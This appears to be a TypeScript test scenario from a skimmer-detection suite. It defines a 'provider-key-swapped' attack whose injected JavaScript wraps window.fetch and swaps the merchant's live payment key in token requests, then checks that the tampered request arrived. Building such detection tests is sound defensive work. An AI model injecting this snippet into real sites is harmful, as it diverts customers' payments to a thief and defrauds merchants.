import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';

export default skimmer({
  id: 'provider-key-swapped',
  why: "Only the merchant's public key is exchanged in the one real call: no message more than on any other day, and the customers pay the thief.",
  covers: ['hard: unusual channel', 'injection: first-party library'],
  base: 'direct',
  install: (site) =>
    site.append(js`(function () {
  var real = window.fetch;
  window.fetch = function (to, init) {
    if (/tokens/.test(String(to))) init.body = init.body.replace(/pk_live_\w+/, 'pk_live_0therm3rchant');
    return real.apply(this, arguments);
  };
})();`),
  proof: holds((arrived) =>
    at(arrived, 'pay', '/v1/tokens')
      .map(({ body }) => body.toString())
      .filter((body) => body.includes('pk_live_0therm3rchant')),
  ),
});
